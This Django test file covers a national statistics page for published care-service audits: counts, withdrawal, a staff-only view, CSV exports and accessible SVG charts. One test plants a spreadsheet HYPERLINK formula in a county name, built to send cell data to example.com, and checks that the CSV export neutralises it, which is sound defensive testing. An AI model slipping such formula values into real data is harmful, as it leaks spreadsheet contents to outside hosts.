"""The national picture: counts over published audits only (findings only where the terms
let them out), gone at once on withdrawal from the page and every CSV, the staff version
with what is not published kept apart and never cached, accessible SVG charts with the
same figures as the tables, inert CSV cells, and query counts that do not grow."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import pytest
from django.urls import reverse
from django.utils import translation

from audits.bank import national, services
from audits.bank.charts import Row, Series, bar_chart
from audits.models import Audit, Proposal, Theme
from audits.tests.factories import audit_in_state

from .helpers import EVERYTHING, en, published_audit

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("empty_cache")]
S = Audit.Status
SVG = "{http://www.w3.org/2000/svg}"


def dataset(response, slug: str) -> national.Dataset:
    return next(d for d in response.context["datasets"] if d.slug == slug)


def figures(data: national.Dataset) -> dict[str, tuple[int, ...]]:
    return {row.key: row.values for row in data.rows}


def read_csv(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


# --- What is counted --------------------------------------------------------------------


def test_the_picture_counts_published_audits_only(commissioner, staff):
    # findings=3: treatment positive, participation negative, influence positive.
    published = published_audit(commissioner=commissioner, staff=staff, findings=3)
    audit_in_state(S.CLOSED, commissioner=commissioner, staff=staff, findings=4)
    area = published.units.get().service_area

    picture = national.compute()
    with translation.override("en"):
        tables = {d.slug: d for d in national.datasets(picture, staff=False)}

    assert picture.audits == {True: 1}
    themes = figures(tables["findings-theme"])
    assert themes[Theme.TREATMENT] == (1, 0)
    assert themes[Theme.PARTICIPATION] == (0, 1)
    assert themes[Theme.INFLUENCE] == (1, 0)
    assert themes[Theme.SAFETY] == (0, 0)  # only the unpublished audit has it
    assert figures(tables["findings-area"]) == {area: (2, 1)}
    year = str(published.publication.year)
    assert figures(tables["findings-year"]) == {year: (2, 1)}
    # One proposal, accepted and implemented at the follow-up.
    assert figures(tables["proposals-area"]) == {area: (1, 0, 0, 1)}
    county = published.units.get().municipality.county
    assert figures(tables["proposals-county"]) == {county.code: (1, 0, 0, 1)}
    assert tables["proposals-county"].rows[0].label == county.name


def test_the_staff_picture_keeps_the_unpublished_apart(commissioner, staff):
    published_audit(commissioner=commissioner, staff=staff, findings=2)
    hidden = audit_in_state(S.CLOSED, commissioner=commissioner, staff=staff, findings=2)
    audit_in_state(S.DRAFT, commissioner=commissioner)  # drafts count nowhere
    area = hidden.units.get().service_area

    picture = national.staff_picture()
    with translation.override("en"):
        tables = {d.slug: d for d in national.datasets(picture, staff=True)}

    assert picture.audits == {True: 1, False: 1}
    theme = tables["findings-theme"]
    assert [s.label for s in theme.series] == [
        "Positive findings, published",
        "Negative findings, published",
        "Positive findings, not published",
        "Negative findings, not published",
    ]
    assert figures(theme)[Theme.TREATMENT] == (1, 0, 1, 0)
    assert figures(theme)[Theme.PARTICIPATION] == (0, 1, 0, 1)
    # Both units are in the same service area: one proposal published, one not.
    assert figures(tables["proposals-area"])[area] == (1, 0, 0, 1, 1, 0, 0, 1)


def test_findings_the_terms_keep_back_are_not_counted(commissioner, staff):
    published_audit(
        commissioner=commissioner,
        staff=staff,
        findings=2,
        terms={**EVERYTHING, "may_publish_findings": False, "may_publish_quotes": False},
    )

    picture = national.compute()

    assert picture.findings == ()
    # The proposals are on the bank's page, so they count.
    assert sum(row[-1] for row in picture.proposals_by_area) == 1


def test_an_audit_of_two_units_counts_each_finding_once_per_area(commissioner, staff):
    audit = published_audit(commissioner=commissioner, staff=staff, findings=1)
    unit = audit.units.get()
    twin = type(unit).objects.create(
        organisation=unit.organisation,
        name=unit.name + " II",
        service_area=unit.service_area,
        municipality=unit.municipality,
    )
    audit.units.add(twin)

    tables = {d.slug: d for d in national.datasets(national.compute(), staff=False)}

    assert figures(tables["findings-area"]) == {unit.service_area: (1, 0)}
    assert figures(tables["proposals-area"]) == {unit.service_area: (1, 0, 0, 1)}


def test_the_outcomes_follow_the_responses(commissioner, staff):
    audit = published_audit(commissioner=commissioner, staff=staff, findings=1)
    first = audit.proposals.get()
    Proposal.objects.create(
        audit=audit, number=2, text="Två", response=Proposal.Response.PARTLY, progress=""
    )
    Proposal.objects.create(audit=audit, number=3, text="Tre", response=Proposal.Response.REJECTED)
    assert first.response == Proposal.Response.ACCEPTED

    tables = {d.slug: d for d in national.datasets(national.compute(), staff=False)}

    assert figures(tables["proposals-area"])[audit.units.get().service_area] == (1, 1, 1, 1)


# --- Publish, withdraw: the public page and the CSV files --------------------------------


def test_publish_then_withdraw_shows_then_drops_the_counts(client, commissioner, staff):
    audit = published_audit(commissioner=commissioner, staff=staff, findings=3)
    area = audit.units.get().service_area

    page = client.get(en("bank:national"))
    assert page.status_code == 200
    assert page.context["public_audits"] == 1
    assert figures(dataset(page, "findings-area")) == {area: (2, 1)}
    rows = read_csv(client.get(en("bank:national_csv", "findings-area")))
    assert rows[0] == ["Service area", "Positive findings", "Negative findings"]
    assert rows[1][1:] == ["2", "1"]
    county_rows = read_csv(client.get(en("bank:national_csv", "proposals-county")))
    assert county_rows[1][1:] == ["1", "0", "0", "1"]

    services.withdraw(audit=audit, by=commissioner, reason="Ändrad överenskommelse.")

    page = client.get(en("bank:national"))
    assert page.context["public_audits"] == 0
    for data in page.context["datasets"]:
        assert all(sum(row.values) == 0 for row in data.rows), data.slug
    for slug in national.DATASETS:
        rows = read_csv(client.get(en("bank:national_csv", slug)))
        assert all(value == "0" for row in rows[1:] for value in row[1:]), slug
    assert audit.title not in page.content.decode()


def test_the_public_picture_is_cached_and_a_publish_is_a_new_key(
    client, commissioner, staff, django_assert_max_num_queries
):
    published_audit(commissioner=commissioner, staff=staff, findings=2)
    client.get(en("bank:national"))
    # From the cache: only the fingerprint is read.
    with django_assert_max_num_queries(1):
        page = client.get(en("bank:national"))
    assert page.context["public_audits"] == 1
    assert "public" in page["Cache-Control"] and "s-maxage=30" in page["Cache-Control"]

    published_audit(commissioner=commissioner, staff=staff, findings=2)

    assert client.get(en("bank:national")).context["public_audits"] == 2


def test_the_page_has_a_chart_and_a_table_for_every_dataset(client, commissioner, staff):
    published_audit(commissioner=commissioner, staff=staff, findings=3)

    html = client.get(en("bank:national")).content.decode()

    for slug in national.DATASETS:
        assert f'aria-labelledby="chart-{slug}-title chart-{slug}-desc"' in html
        assert reverse("bank:national_csv", args=[slug]).split("/", 2)[2] in html
    assert html.count("<table") == len(national.DATASETS)
    assert html.count('<th scope="row">') >= len(Theme.values)


def test_the_filter_narrows_the_findings(client, commissioner, staff):
    audit = published_audit(commissioner=commissioner, staff=staff, findings=3)
    area = audit.units.get().service_area
    year = str(audit.publication.year)
    other_area = next(a for a in ["lss", "addiction"] if a != area)

    chosen = client.get(en("bank:national"), {"area": area, "year": year})
    assert figures(dataset(chosen, "findings-theme"))[Theme.TREATMENT] == (1, 0)

    # A year with no audits: nothing to choose, so the filter falls back to everything.
    unknown = client.get(en("bank:national"), {"year": "1999", "area": other_area})
    assert figures(dataset(unknown, "findings-theme"))[Theme.TREATMENT] == (1, 0)

    rows = read_csv(
        client.get(en("bank:national_csv", "findings-theme"), {"area": area, "year": year})
    )
    assert ["Treatment and respect", "1", "0"] in rows


def test_an_unknown_dataset_is_404(client):
    assert client.get(en("bank:national_csv", "nothing")).status_code == 404


def test_csv_cells_are_inert(client, commissioner, staff):
    audit = published_audit(commissioner=commissioner, staff=staff, findings=1)
    county = audit.units.get().municipality.county
    county.name = '=HYPERLINK("http://example.com/?"&A2)'
    county.save(update_fields=["name"])

    rows = read_csv(client.get(en("bank:national_csv", "proposals-county")))

    assert rows[1][0] == "'" + county.name


# --- The staff version ------------------------------------------------------------------


def test_the_staff_page_is_for_staff_only(
    client, commissioner, auditor, outsider, admin_user, staff
):
    audit_in_state(S.CLOSED, commissioner=commissioner, staff=staff, findings=2)
    for name, args in [
        ("bank:national_staff", ()),
        ("bank:national_staff_csv", ("findings-theme",)),
    ]:
        address = en(name, *args)
        client.logout()
        anonymous = client.get(address)
        assert anonymous.status_code == 302 and "/login/" in anonymous["Location"]
        for person in (commissioner, auditor, outsider):
            client.force_login(person)
            assert client.get(address).status_code == 403
        client.force_login(staff)
        response = client.get(address)
        assert response.status_code == 200
        assert "no-store" in response["Cache-Control"]
        assert "private" in response["Cache-Control"]
        assert "public" not in response["Cache-Control"]


def test_the_staff_page_marks_the_unpublished(client, commissioner, staff):
    audit_in_state(S.CLOSED, commissioner=commissioner, staff=staff, findings=2)
    client.force_login(staff)

    page = client.get(en("bank:national_staff"))

    html = page.content.decode()
    assert "For the resource centre only." in html
    assert "Positive findings, not published" in html
    assert page.context["unpublished_audits"] == 1
    assert figures(dataset(page, "findings-theme"))[Theme.TREATMENT] == (0, 0, 1, 0)
    rows = read_csv(client.get(en("bank:national_staff_csv", "findings-theme")))
    assert rows[0][3] == "Positive findings, not published"
    # The public page shows none of it.
    client.logout()
    public = client.get(en("bank:national"))
    assert figures(dataset(public, "findings-theme"))[Theme.TREATMENT] == (0, 0)


# --- Query counts -----------------------------------------------------------------------


def test_the_query_count_does_not_grow_with_the_audits(
    client, commissioner, staff, django_assert_max_num_queries, settings
):
    published_audit(commissioner=commissioner, staff=staff, findings=2)
    audit_in_state(S.CLOSED, commissioner=commissioner, staff=staff, findings=2)

    def count_them():
        # fingerprint + four grouped queries (cold cache), and the staff page's session,
        # user and the same four.
        with django_assert_max_num_queries(5):
            national.public_picture()
        client.force_login(staff)
        with django_assert_max_num_queries(7):
            client.get(en("bank:national_staff"))

    count_them()
    for _ in range(3):
        published_audit(commissioner=commissioner, staff=staff, findings=5)
        audit_in_state(S.REPORT_APPROVED, commissioner=commissioner, staff=staff, findings=5)
    count_them()


# --- The chart --------------------------------------------------------------------------


def test_the_chart_is_accessible_svg():
    svg = bar_chart(
        chart_id="chart-x",
        title="Fynd <per> tema",
        description="Stapeldiagram & tabell",
        series=[Series("a", "Positiva"), Series("b", "Negativa")],
        rows=[Row("t", "Bemötande", (3, 1)), Row("u", "Ett mycket långt tema " * 3, (0, 7))],
    )

    # The portal's own output, parsed to show it is well-formed and escaped.
    root = ET.fromstring(str(svg))  # noqa: S314
    assert root.get("role") == "img"
    assert root.get("aria-labelledby") == "chart-x-title chart-x-desc"
    assert root.find(f"{SVG}title").text == "Fynd <per> tema"
    assert root.find(f"{SVG}desc").text == "Stapeldiagram & tabell"
    texts = [node.text for node in root.iter(f"{SVG}text")]
    assert {"Positiva", "Negativa", "Bemötande", "3", "1", "0", "7"} <= set(texts)
    # A long label is cut in the picture (the table has it whole).
    assert any(text.endswith("…") for text in texts)
    # Each series has its own pattern, not colour alone.
    patterns = root.findall(f"{SVG}defs/{SVG}pattern")
    assert [p.get("id") for p in patterns] == ["chart-x-p0", "chart-x-p1"]
    assert patterns[1].find(f"{SVG}path") is not None
    widths = [
        float(r.get("width"))
        for r in root.iter(f"{SVG}rect")
        if r.get("y") and "url(#" in (r.get("fill") or "") and r.get("x") != "0"
    ]
    # The biggest figure has the longest bar; a zero has none.
    assert max(widths) == widths[3] and widths[2] == 0


def test_an_empty_chart_still_has_its_name():
    svg = bar_chart(chart_id="c", title="T", description="D", series=[Series("a", "A")], rows=[])
    root = ET.fromstring(str(svg))  # noqa: S314
    assert root.find(f"{SVG}title").text == "T"
